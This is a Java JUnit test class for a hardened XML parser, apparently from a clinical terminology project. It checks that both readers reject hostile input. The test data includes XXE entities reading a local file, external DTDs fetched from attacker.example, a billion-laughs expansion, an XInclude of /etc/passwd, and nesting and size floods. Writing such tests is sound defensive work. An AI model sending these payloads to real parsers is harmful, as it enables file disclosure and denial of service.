package fr.passerelle.terminology.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;

/** Hostile XML both readers (DOM and stream) must refuse before any of it is used. */
class HardenedXmlTest {

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Reads the whole stream, returning the text content seen, as a loader would. */
    private static String stream(byte[] xml) throws XMLStreamException {
        XMLStreamReader r = HardenedXml.streamReader(new ByteArrayInputStream(xml));
        StringBuilder text = new StringBuilder();
        while (r.hasNext()) {
            if (r.next() == XMLStreamReader.CHARACTERS) {
                text.append(r.getText());
            }
        }
        return text.toString();
    }

    static String billionLaughs() {
        StringBuilder attack = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>");
        for (int i = 1; i < 10; i++) {
            attack.append("<!ENTITY lol").append(i).append(" '");
            for (int j = 0; j < 10; j++) {
                attack.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            attack.append("'>");
        }
        return attack.append("]><lolz>&lol9;</lolz>").toString();
    }

    @Test
    void readsOrdinaryNamespacedXmlBothWays() throws Exception {
        byte[] xml = bytes("<a:x xmlns:a='urn:a'><a:y z='1'>t</a:y></a:x>");
        Document document = HardenedXml.parse(xml);
        assertThat(document.getDocumentElement().getNamespaceURI()).isEqualTo("urn:a");
        assertThat(stream(xml)).isEqualTo("t");
        XMLStreamReader r = HardenedXml.streamReader(new ByteArrayInputStream(xml));
        assertThat(r.nextTag()).isEqualTo(XMLStreamReader.START_ELEMENT);
        assertThat(r.getNamespaceURI()).isEqualTo("urn:a");
    }

    @Test
    void externalEntityXxe(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "top secret");
        byte[] attack = bytes("<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM '" + secret.toUri() + "'>]>"
                + "<r>&x;</r>");
        assertThatThrownBy(() -> HardenedXml.parse(attack)).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("a DOCTYPE is not allowed").hasMessageNotContaining("top secret");
        assertThatThrownBy(() -> stream(attack)).isInstanceOf(XMLStreamException.class)
                .hasMessageContaining("a DOCTYPE is not allowed").hasMessageNotContaining("top secret");
    }

    @Test
    void parameterEntitiesAndExternalDtds() {
        for (String attack : new String[] {
                "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://attacker.example/evil.dtd'>%p;]><r/>",
                "<!DOCTYPE r SYSTEM 'http://attacker.example/evil.dtd'><r/>"}) {
            assertThatThrownBy(() -> HardenedXml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                    .hasMessage("a DOCTYPE is not allowed");
            assertThatThrownBy(() -> stream(bytes(attack))).isInstanceOf(XMLStreamException.class)
                    .hasMessageContaining("a DOCTYPE is not allowed");
        }
    }

    @Test
    void billionLaughsAndAPlainDoctype() {
        for (String attack : new String[] {billionLaughs(), "<!DOCTYPE r><r>harmless</r>"}) {
            assertThatThrownBy(() -> HardenedXml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                    .hasMessage("a DOCTYPE is not allowed");
            assertThatThrownBy(() -> stream(bytes(attack))).isInstanceOf(XMLStreamException.class)
                    .hasMessageContaining("a DOCTYPE is not allowed");
        }
    }

    @Test
    void xinclude() {
        byte[] attack = bytes("<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></r>");
        assertThatThrownBy(() -> HardenedXml.parse(attack)).hasMessage("XInclude is not allowed");
        assertThatThrownBy(() -> stream(attack)).hasMessageContaining("XInclude is not allowed");
    }

    @Test
    void deepNestingAndAttributeFloods() {
        byte[] deep = bytes("<a>".repeat(HardenedXml.MAX_DEPTH + 2) + "</a>".repeat(HardenedXml.MAX_DEPTH + 2));
        assertThatThrownBy(() -> HardenedXml.parse(deep)).hasMessage("elements nested deeper than 128");
        assertThatThrownBy(() -> stream(deep)).hasMessageContaining("maxElementDepth");
        StringBuilder flood = new StringBuilder("<a");
        for (int i = 0; i <= HardenedXml.MAX_ATTRIBUTES_PER_ELEMENT; i++) {
            flood.append(" a").append(i).append("='x'");
        }
        byte[] attack = bytes(flood.append("/>").toString());
        assertThatThrownBy(() -> HardenedXml.parse(attack)).hasMessage("an element carries more than 64 attributes");
        assertThatThrownBy(() -> stream(attack)).hasMessageContaining("attributes");
        byte[] justDeepEnough = bytes("<a>".repeat(HardenedXml.MAX_DEPTH) + "</a>".repeat(HardenedXml.MAX_DEPTH));
        assertThatCode(() -> HardenedXml.parse(justDeepEnough));
    }

    private static void assertThatCode(org.assertj.core.api.ThrowableAssert.ThrowingCallable call) {
        org.assertj.core.api.Assertions.assertThatCode(call).doesNotThrowAnyException();
    }

    @Test
    void tooManyElementsAndTooManyBytes() {
        byte[] many = bytes("<r>" + "<e/>".repeat(HardenedXml.MAX_ELEMENTS) + "</r>");
        assertThatThrownBy(() -> HardenedXml.parse(many)).hasMessage("more than 500000 elements");
        assertThatThrownBy(() -> stream(many)).hasMessageContaining("more than 500000 elements");
        assertThatThrownBy(() -> HardenedXml.parse(new byte[HardenedXml.MAX_BYTES + 1]))
                .hasMessageContaining("exceeds the limit of " + HardenedXml.MAX_BYTES);
        InputStream endless = new SequenceInputStream(new ByteArrayInputStream(bytes("<r>")),
                new ByteArrayInputStream(new byte[HardenedXml.MAX_BYTES + 1]) {
                    {
                        java.util.Arrays.fill(buf, (byte) ' ');
                    }
                });
        assertThatThrownBy(() -> {
            XMLStreamReader r = HardenedXml.streamReader(endless);
            while (r.hasNext()) {
                r.next();
            }
        }).isInstanceOf(XMLStreamException.class);
    }

    @Test
    void malformedXmlNamesWhereWithoutContent() {
        assertThatThrownBy(() -> HardenedXml.parse(bytes("<r>\n<secret-value>\n</r>")))
                .isInstanceOfSatisfying(UnsafeXmlException.class, e -> {
                    assertThat(e.line()).isEqualTo(3);
                    assertThat(e.column()).isPositive();
                });
    }

    @Test
    void writersGetAnEmptyNamespaceAwareDocument() {
        Document document = HardenedXml.newDocument();
        document.appendChild(document.createElementNS("urn:hl7-org:v3", "ClinicalDocument"));
        assertThat(document.getDocumentElement().getLocalName()).isEqualTo("ClinicalDocument");
    }
}
